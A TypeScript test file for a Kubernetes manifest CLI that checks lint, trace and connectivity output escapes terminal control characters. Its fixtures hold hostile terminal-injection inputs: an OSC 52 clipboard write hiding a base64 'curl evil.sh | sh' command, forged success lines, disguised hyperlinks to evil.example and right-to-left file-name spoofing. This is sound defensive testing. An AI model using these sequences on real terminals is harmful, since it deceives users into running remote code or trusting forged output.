// The CLI's output bytes when manifests and file names carry control
// characters, OSC sequences and bidi overrides: text output and stderr show
// them as visible escapes (no line can be erased or forged), JSON and SARIF
// keep the exact values as valid, escaped JSON.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runConnectivity } from '../../../src/cli/connectivity';
import { runLint } from '../../../src/cli/lint';
import { runTrace } from '../../../src/cli/trace';
import type { CliCommand } from '../../../src/cli/io';

/** Raw characters a terminal could act on (a newline only where the output puts one). */
const RAW_UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

// YAML double-quoted escapes: \e ESC, \a BEL, \r CR, \n LF, \x9b (C1 CSI), \u202E (RLO).
const FORGED = '\\e[2K\\rNo problems in 1 file\\n';
const OSC52 = '\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a';
const OSC8 = '\\e]8;;https://evil.example\\e\\\\click\\e]8;;\\e\\\\';
const C1 = '\\x9b2J';
const RLO = '\\u202Egpj.exe';

const MANIFESTS = `apiVersion: v1
kind: Namespace
metadata: {name: shop}
---
apiVersion: v1
kind: Service
metadata: {name: web, namespace: shop}
spec:
  selector: {app: "web${FORGED}${OSC52}"}
  ports: [{port: 80, targetPort: "h${C1}"}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: "api${RLO}${OSC8}", namespace: shop}
spec:
  selector: {matchLabels: {app: api}}
  template:
    metadata: {labels: {app: api}}
    spec:
      containers:
        - name: api
          image: nginx
          ports: [{containerPort: 8080, name: http}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: "db${FORGED}", namespace: shop}
spec:
  selector: {matchLabels: {app: db}}
  template:
    metadata: {labels: {app: db}}
    spec:
      containers: [{name: db, image: postgres, ports: [{containerPort: 5432}]}]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: "deny${C1}", namespace: shop}
spec:
  podSelector: {matchLabels: {app: db}}
  ingress:
    - from: [{podSelector: {matchLabels: {app: api}}}]
      ports: [{port: 5432}]
`;
// A file name a shell can create: ESC, CR and a newline in it.
const FILE = 'evil\x1b[2K\rNo problems in 1 file\n.yaml';

async function run(command: CliCommand, argv: string[], cwd: string) {
  let stdout = '';
  let stderr = '';
  const code = await command(argv, { stdout: (s) => (stdout += s), stderr: (s) => (stderr += s), isTTY: false, cwd });
  return { code, stdout, stderr };
}

function assertTerminalSafe(text: string, what: string, allowTabs = false): void {
  const m = (allowTabs ? new RegExp(RAW_UNSAFE.source.replace('\\u0000-\\u0009', '\\u0000-\\u0008')) : RAW_UNSAFE).exec(text);
  assert.equal(m, null, `${what}: raw U+${m?.[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m?.index}: ${JSON.stringify(text.slice(Math.max(0, (m?.index ?? 0) - 40), (m?.index ?? 0) + 40))}`);
}

describe('cli: terminal-safe output', () => {
  let dir: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'kni-term-'));
    writeFileSync(join(dir, FILE), MANIFESTS);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('lint, text: the file name, messages and values escaped; no forged summary line', async () => {
    const r = await run(runLint, ['.'], dir);
    assert.equal(r.code, 1, r.stderr + r.stdout);
    assertTerminalSafe(r.stdout, 'stdout');
    assertTerminalSafe(r.stderr, 'stderr');
    const lines = r.stdout.split('\n');
    assert.equal(lines[0], 'evil\\x1b[2K\\rNo problems in 1 file\\n.yaml');
    // The only summary line is the real one, the last.
    assert.deepEqual(lines.filter((l) => /^(No problems|\d+ problems?) /.test(l)).length, 1);
    assert.match(r.stdout, /app=web\\x1b\[2K\\rNo problems in 1 file\\n\\x1b\]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07/);
  });

  it('lint, text on a terminal: only the colour codes of the report itself are raw', async () => {
    let stdout = '';
    const code = await runLint(['.'], { stdout: (t) => (stdout += t), stderr: () => {}, isTTY: true, cwd: dir });
    assert.equal(code, 1);
    assert.match(stdout, /\x1b\[31m/, 'coloured');
    assertTerminalSafe(stdout.replace(/\x1b\[[0-9]+m/g, ''), 'stdout without its colour codes');
  });

  it('lint, JSON and SARIF: valid JSON, the exact values back, C1 and bidi escaped', async () => {
    for (const format of ['json', 'sarif']) {
      const r = await run(runLint, ['.', '--format', format], dir);
      assertTerminalSafe(r.stdout, format);
      const parsed = JSON.parse(r.stdout) as unknown;
      const text = JSON.stringify(parsed);
      assert.ok(text.includes('\\u001b]52;c;'), `${format} keeps the value`);
      assert.ok(r.stdout.includes('\\u009b') || format === 'sarif' || r.stdout.includes('\\u202e'), format);
    }
    const j = JSON.parse((await run(runLint, ['.', '--format', 'json'], dir)).stdout) as { findings: { file: string; message: string }[] };
    assert.equal(j.findings[0].file, FILE);
    assert.ok(j.findings.some((f) => f.message.includes('web\x1b[2K\rNo problems in 1 file\n\x1b]52;c;')));
  });

  it('lint, stderr: a path that does not exist, named with control characters', async () => {
    const r = await run(runLint, ['missing\x1b]8;;https://x\x07\n.yaml'], dir);
    assert.equal(r.code, 2);
    assertTerminalSafe(r.stderr, 'stderr');
    assert.equal(r.stderr, 'kni lint: missing\\x1b]8;;https://x\\x07\\n.yaml: no such file or directory\nkni lint: 1 path could not be read (named above); the report covers the rest.\n');
  });

  it('trace, text: hop details, rules and endpoints escaped', async () => {
    const r = await run(runTrace, ['.', '--to', 'svc/shop/web:80'], dir);
    // DNS records are printed as dig prints them, fields separated by tabs (the only raw control character).
    assertTerminalSafe(r.stdout, 'stdout', true);
    for (const line of r.stdout.split('\n')) if (line.includes('\t')) assert.match(line, /^ +\S+\.\t5\tIN\t[A-Z]+\t/, line);
    assertTerminalSafe(r.stderr, 'stderr');
    assert.match(r.stdout, /^trace a Pod in shop -> svc\/shop\/web:80 \(kube-proxy mode: iptables\)\n/);
    const json = await run(runTrace, ['.', '--to', 'svc/shop/web:80', '--format', 'json'], dir);
    assertTerminalSafe(json.stdout, 'json');
    JSON.parse(json.stdout);
  });

  it('trace, stderr: a usage error echoing a hostile flag value', async () => {
    const r = await run(runTrace, ['.', '--to', 'svc/x\x1b[31m'], dir);
    assert.equal(r.code, 2);
    assertTerminalSafe(r.stderr, 'stderr');
    assert.match(r.stderr, /--to "svc\/x\\x1b\[31m"/);
  });

  it('connectivity, every listing: workload names escaped (text), exact and escaped (JSON)', async () => {
    for (const extra of [[], ['--all'], ['--from', 'shop/Deployment/api\u202Egpj.exe\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\']]) {
      const r = await run(runConnectivity, ['.', ...extra], dir);
      assert.equal(r.code, 0, r.stderr);
      assertTerminalSafe(r.stdout, `text ${extra.join(' ')}`);
      assertTerminalSafe(r.stderr, `stderr ${extra.join(' ')}`);
      assert.ok(r.stdout.includes('shop/Deployment/api<U+202E>gpj.exe\\x1b]8;;https://evil.example\\x1b\\click'), r.stdout);
      const j = await run(runConnectivity, ['.', '--format', 'json', ...extra], dir);
      assertTerminalSafe(j.stdout, `json ${extra.join(' ')}`);
      assert.ok(JSON.stringify(JSON.parse(j.stdout)).includes('db\\u001b[2K\\rNo problems in 1 file\\n'));
    }
  });

  it('connectivity, stderr: an unknown --from is echoed escaped', async () => {
    const r = await run(runConnectivity, ['.', '--from', 'shop/Deployment/x\x9b2J\rok'], dir);
    assert.equal(r.code, 2);
    assertTerminalSafe(r.stderr, 'stderr');
    assert.match(r.stderr, /x\\u009b2J\\rok/);
  });
});
